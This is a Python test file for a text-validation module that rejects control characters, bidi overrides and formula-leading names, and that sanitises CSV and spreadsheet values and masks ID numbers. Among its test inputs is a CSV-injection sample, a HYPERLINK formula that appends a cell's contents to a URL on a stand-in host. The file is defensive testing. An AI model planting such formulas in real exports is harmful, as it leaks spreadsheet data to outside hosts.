"""core.text: what free text may hold, once for the imports, the binding and the reports."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from core.text import (
    NAME_MAX,
    SHEET_ILLEGAL_RE,
    bad_character,
    csv_safe,
    looks_like_formula,
    sheet_safe,
    shown,
    text_problem,
)


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        ("张伟", None),
        ("阿卜杜热合曼·买买提", None),
        ("张\x01伟", "control"),
        ("张\x00伟", "control"),
        ("张\u202e伟", "control"),  # a direction override
        ("张\ud800伟", "control"),  # a lone surrogate
        ("韦" * (NAME_MAX + 1), "too_long"),
        ('=HYPERLINK("http://x/?"&A1,"点此")', "formula"),
        ("+86", "formula"),
        ("-1", "formula"),
        ("@SUM(A1)", "formula"),
        ("\t=1", "control"),  # a tab in a name is a control character first
    ],
)
def test_names(text: str, problem: str | None) -> None:
    assert text_problem(text, NAME_MAX, name=True) == problem


def test_titles_may_start_with_a_dash_but_not_hold_controls() -> None:
    assert text_problem("-新技术讲座", 300) is None  # only names are refused for a formula
    assert text_problem("讲座\x0b", 300) == "control"
    assert text_problem("讲座\n第二行", 300) == "control"  # one line: a CSV cell, a column


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_values_never_start_a_formula(lead: str) -> None:
    value = csv_safe(lead + "1+1")
    assert value.startswith("'") and not looks_like_formula(value)


def test_csv_and_sheet_values_keep_ordinary_text() -> None:
    assert csv_safe("张伟") == "张伟" and csv_safe("") == ""
    assert sheet_safe("张\x01伟\x1f") == "张伟"
    assert sheet_safe("第一行\n第二行\t缩进") == "第一行\n第二行\t缩进"  # a sheet holds these


@given(st.text())
def test_sheet_safe_leaves_nothing_a_sheet_refuses(text: str) -> None:
    cleaned = sheet_safe(text)
    assert SHEET_ILLEGAL_RE.search(cleaned) is None
    assert not looks_like_formula(csv_safe(text))


def test_values_quoted_back_are_short_and_visible() -> None:
    assert shown("学" * 200_000) == "学" * 39 + "…"
    assert shown("a\x00b") == "aU+0000b"
    # an ID number in the wrong column is quoted back masked, even when the cut falls in it
    number = "450103199201300560"
    assert shown(number) == "4501**********0560"
    assert number[:10] not in shown("学" * 30 + number)
    assert bad_character("正常") is None and bad_character("x\x7f") == "\x7f"
